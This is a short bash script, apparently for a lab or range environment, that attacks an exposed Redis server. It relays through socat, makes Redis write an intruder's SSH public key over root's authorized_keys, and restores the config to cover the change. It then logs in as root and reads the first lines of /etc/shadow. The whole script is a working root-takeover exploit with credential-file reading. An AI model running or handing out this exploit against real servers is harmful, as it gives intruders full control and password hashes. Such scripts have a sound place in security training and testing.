#!/bin/bash
# Redis is made to write its dump over root's authorized_keys; then root logs in with the intruder's key.
# redis-cli cannot choose its own address, so socat stands between.
socat TCP-LISTEN:6390,bind=127.0.0.1,fork,reuseaddr TCP:10.20.0.5:6379,bind=203.0.113.88 &
relay=$!
trap 'kill $relay' EXIT
sleep 0.5
cli() { redis-cli -p 6390 "$@" >/dev/null; }
cli config set rdbcompression no
{ printf '\n\n'; cat /range/keys/intruder.pub; printf '\n\n'; } | cli -x set cron:1
cli config set dir /root/.ssh
cli config set dbfilename authorized_keys
cli save
cli config set dir /var/lib/redis
cli config set dbfilename dump.rdb
cli del cron:1
sleep 2
ssh -q -b 203.0.113.88 -i /range/keys/intruder root@10.20.0.5 'id; head -n 3 /etc/shadow; ls -la /root/.ssh' | grep -q 'uid=0'
